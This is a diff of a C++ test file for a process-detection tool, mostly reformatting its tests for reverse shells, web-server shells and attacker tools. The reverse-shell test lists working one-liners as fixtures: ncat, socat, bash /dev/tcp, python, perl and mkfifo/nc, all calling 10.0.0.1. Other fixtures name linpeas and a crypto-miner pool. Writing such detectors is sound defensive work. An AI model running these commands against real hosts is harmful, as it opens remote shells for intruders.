@@ -13,9 +13,12 @@ Findings run(const collect::Snapshot& s) { return detect::run_triage(s, {}); }
 TEST(ProcessRules, CleanPackagedProcesses_AreQuiet) {
   auto s = empty_snapshot();
   s.processes.push_back(process(1, "/usr/lib/systemd/systemd", {"/sbin/init"}, "systemd"));
-  s.processes.push_back(process(200, "/usr/sbin/sshd", {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"}, "openssh-server"));
+  s.processes.push_back(process(200, "/usr/sbin/sshd",
+                                {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"},
+                                "openssh-server"));
   s.processes.push_back(process(300, "/usr/bin/bash", {"-bash"}, "bash", 200));
-  s.processes.push_back(process(301, "/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/unattended-upgrade"}, "python3.11"));
+  s.processes.push_back(process(301, "/usr/bin/python3.11",
+                                {"/usr/bin/python3", "/usr/bin/unattended-upgrade"}, "python3.11"));
   s.sockets.push_back(socket("tcp", "LISTEN", "0.0.0.0", 22, 200));
   auto k = process(2, "", {});
   k.kernel_thread = true;
@@ -63,15 +66,18 @@ TEST(ProcessRules, ReverseShellCommandLines_AreCritical) {
       {"ncat", "10.0.0.1", "4444", "--sh-exec", "bash"},
       {"socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty"},
       {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
-      {"python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0)"},
-      {"perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));exec('/bin/sh -i');"},
+      {"python3", "-c",
+       "import "
+       "socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0)"},
+      {"perl", "-e",
+       "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));exec('/bin/sh -i');"},
       {"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"},
   };
   for (const auto& argv : shells) {
     auto s = empty_snapshot();
     s.processes.push_back(process(77, "/usr/bin/x", argv, "pkg"));
     auto all_f = run(s);
-  auto f = with_rule(all_f, "process.reverse-shell");
+    auto f = with_rule(all_f, "process.reverse-shell");
     ASSERT_EQ(f.size(), 1u) << argv.back();
     EXPECT_EQ(f[0]->severity, Severity::critical);
   }
@@ -96,7 +102,8 @@ TEST(ProcessRules, BenignLookalikes_AreNotReverseShells) {
 
 TEST(ProcessRules, ShellUnderWebServer_IsHigh) {
   auto s = empty_snapshot();
-  s.processes.push_back(process(100, "/usr/sbin/apache2", {"/usr/sbin/apache2", "-k", "start"}, "apache2"));
+  s.processes.push_back(
+      process(100, "/usr/sbin/apache2", {"/usr/sbin/apache2", "-k", "start"}, "apache2"));
   s.processes.push_back(process(101, "/usr/bin/dash", {"sh", "-c", "id"}, "dash", 100));
   s.processes.push_back(process(102, "/usr/bin/bash", {"bash", "-i"}, "bash", 101));
   auto all_f = run(s);
@@ -141,7 +148,8 @@ TEST(ProcessRules, FilelessSeverityFollowsEvidence) {
 TEST(ProcessRules, AttackerToolNames) {
   auto s = empty_snapshot();
   s.processes.push_back(process(70, "/usr/bin/bash", {"bash", "/dev/shm/linpeas.sh"}, "bash"));
-  s.processes.push_back(process(71, "/opt/x/xm", {"./xm", "-o", "stratum+tcp://pool.example:3333"}));
+  s.processes.push_back(
+      process(71, "/opt/x/xm", {"./xm", "-o", "stratum+tcp://pool.example:3333"}));
   auto all_f = run(s);
   auto f = with_rule(all_f, "process.attacker-tool");
   ASSERT_EQ(f.size(), 2u);
